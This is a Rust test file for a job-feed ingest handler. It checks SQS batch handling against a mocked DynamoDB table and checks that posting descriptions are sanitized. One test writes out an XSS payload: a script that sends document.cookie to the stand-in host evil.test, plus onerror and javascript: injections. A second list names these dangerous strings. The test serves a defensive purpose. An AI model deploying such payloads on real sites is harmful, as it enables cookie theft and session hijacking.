//! Every `events/ingest-*.json` through the ingest handler, on a fresh moto table each.

use aws_lambda_events::event::sqs::SqsEvent;
use chrono::{DateTime, Utc};
use jobfeed::app::ingest::IngestConfig;
use jobfeed::store::dynamodb::DynamoStore;
use jobfeed::store::{ListQuery, PostingReader, SourceStateStore};
use jobfeed_fn::testing::{events, fresh_table, moto};
use jobfeed_fn_ingest::{Ingest, handle};

/// The seven postings of the recorded Greenhouse board, as the events carry them.
const IDS: [&str; 7] = [
    "92fd0a5cd33521a0dffe7c18b4fb8866",
    "1b601320a459467dd33936dccaf63a89",
    "3c1aa0f15e138bcf006904d8ca2a8603",
    "7bd522a7a205c673ac3ccebd827d91be",
    "a07b5ea22da14123b774654e79b006a2",
    "1fd3b97cd9f3a9aba9addae1530fa7e1",
    "022eceb727ea4b97462d5388773c451a",
];

fn now() -> DateTime<Utc> {
    "2026-11-28T06:01:00Z".parse().unwrap()
}

/// What each event must do: the message ids reported as failed, and the open postings of
/// `gitlab` afterwards.
fn expected(file: &str) -> (Vec<&'static str>, usize) {
    match file {
        // What the crawler sends: two batches of extracted postings, and a close of a
        // posting that is not stored (nothing to close).
        "ingest-postings-batch.json" => (vec![], 7),
        // The same batch as crawlers sent it before postings were normalized at ingest.
        "ingest-postings-batch-normalized.json" => (vec![], 7),
        // The malformed middle message is reported (to reach the DLQ after
        // maxReceiveCount); the two good batches around it are stored.
        "ingest-postings-batch-one-malformed.json" => {
            (vec!["5e1f0000-0000-0000-0000-000000009acd"], 7)
        }
        other => panic!("{other} has no expectation here: add one"),
    }
}

#[tokio::test]
async fn every_ingest_event_gives_the_expected_batch_response_and_store() {
    let aws = moto().await;
    let client = aws_sdk_dynamodb::Client::new(&aws);
    for (file, json) in events("ingest") {
        let (failed, open) = expected(&file);
        let store = DynamoStore::new(client.clone(), fresh_table(&client).await);
        let config = IngestConfig::default();
        let ingest = Ingest {
            postings: &store,
            states: &store,
            counts: &store,
            config: &config,
        };
        let event: SqsEvent = serde_json::from_str(&json).unwrap();
        let response = handle(&ingest, event, now()).await;
        let reported: Vec<&str> = response
            .batch_item_failures
            .iter()
            .map(|f| f.item_identifier.as_str())
            .collect();
        assert_eq!(reported, failed, "{file}");

        let page = store.list(&ListQuery::default(), 100, None).await.unwrap();
        let mut ids: Vec<&str> = page.items.iter().map(|p| p.posting.id.as_str()).collect();
        ids.sort_unstable();
        let mut all = IDS.to_vec();
        all.sort_unstable();
        assert_eq!(ids.len(), open, "{file}");
        assert_eq!(ids, all, "{file}");
        assert!(
            page.items
                .iter()
                .all(|p| p.posting.first_seen_at == Some(now())),
            "{file}"
        );
        let state = store.source_state("gitlab").await.unwrap().unwrap();
        assert_eq!(state.counts.new, 7, "{file}");
    }
}

#[tokio::test]
async fn a_posting_whose_description_carries_a_script_is_stored_sanitized() {
    let aws = moto().await;
    let client = aws_sdk_dynamodb::Client::new(&aws);
    let store = DynamoStore::new(client.clone(), fresh_table(&client).await);
    let config = IngestConfig::default();
    let ingest = Ingest {
        postings: &store,
        states: &store,
        counts: &store,
        config: &config,
    };
    // The recorded batch's first message, its first posting's description replaced by a
    // script (as a hostile board, or a message altered on the way, would send it).
    let (_, json) = events("ingest")
        .into_iter()
        .find(|(file, _)| file == "ingest-postings-batch.json")
        .unwrap();
    let mut event: serde_json::Value = serde_json::from_str(&json).unwrap();
    let records = event["Records"].as_array_mut().unwrap();
    records.truncate(1);
    let mut body: serde_json::Value =
        serde_json::from_str(records[0]["body"].as_str().unwrap()).unwrap();
    body["postings"][0]["record"]["description_html"] = serde_json::Value::from(
        "<p>Build our APIs.</p><script>fetch('https://evil.test/?c='+document.cookie)</script>\
         <img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">apply</a>",
    );
    let id = body["postings"][0]["id"].as_str().unwrap().to_owned();
    records[0]["body"] = serde_json::Value::from(body.to_string());
    let event: SqsEvent = serde_json::from_value(event).unwrap();
    let response = handle(&ingest, event, now()).await;
    assert!(response.batch_item_failures.is_empty());
    let stored = store.get_many(std::slice::from_ref(&id)).await.unwrap();
    let html = &stored[0].posting.description_html;
    assert!(html.contains("Build our APIs."), "{html}");
    for dangerous in ["<script", "onerror", "javascript:", "evil.test"] {
        assert!(!html.contains(dangerous), "{dangerous} in {html}");
    }
}
